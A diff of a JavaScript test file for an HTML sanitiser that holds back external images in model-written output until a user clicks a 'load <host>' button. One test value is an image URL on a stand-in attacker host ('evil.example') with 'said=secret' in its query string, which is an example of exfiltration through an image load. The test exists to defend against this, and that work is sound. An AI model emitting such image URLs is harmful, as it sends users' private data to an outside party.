@@ -54,11 +54,11 @@ describe('HTML that is cleaned', () => {
   it('of what a model wrote, loads pictures from elsewhere when they are asked for, those here and in the text at once', () => {
     const place = document.createElement('div');
     const held = 'https://user@evil.example:8443/p.png?said=secret';
-    place.append(cleanHtml(`<a href="https://b.example/"><img src="${held}" alt="a chart"></a>`, true));
+    place.append(cleanHtml(`<a href="https://b.example/"><img src="${held}" alt="a chart"></a>`, (host) => `load ${host}`));
     expect(place.querySelector('img')).toBeNull();
     expect(place.innerHTML).not.toContain('secret');
     const button = place.querySelector('button');
-    expect(button?.textContent).toBe('加载图片：evil.example:8443');
+    expect(button?.textContent).toBe('load evil.example:8443');
     const click = new MouseEvent('click', { bubbles: true, cancelable: true });
     button?.dispatchEvent(click);
     expect(click.defaultPrevented).toBe(true);
@@ -66,9 +66,9 @@ describe('HTML that is cleaned', () => {
     expect(place.querySelector('a > img')?.getAttribute('src')).toBe(held);
     expect(place.querySelector('img')?.alt).toBe('a chart');
     for (const src of ['/mj/image/a', `https://${location.host}/b.png`, 'data:image/png;base64,AA'])
-      expect(cleanHtml(`<img src="${src}">`, true).querySelector('img')?.getAttribute('src')).toBe(src);
+      expect(cleanHtml(`<img src="${src}">`, String).querySelector('img')?.getAttribute('src')).toBe(src);
     for (const src of ['//evil.example/b.png', 'http://evil.example/b.png', 'data:text/html,x'])
-      expect(cleanHtml(`<img src="${src}">`, true).querySelector('[src], button')).toBeNull();
+      expect(cleanHtml(`<img src="${src}">`, String).querySelector('[src], button')).toBeNull();
   });
 
   it('ends somewhere: in depth and in number', () => {
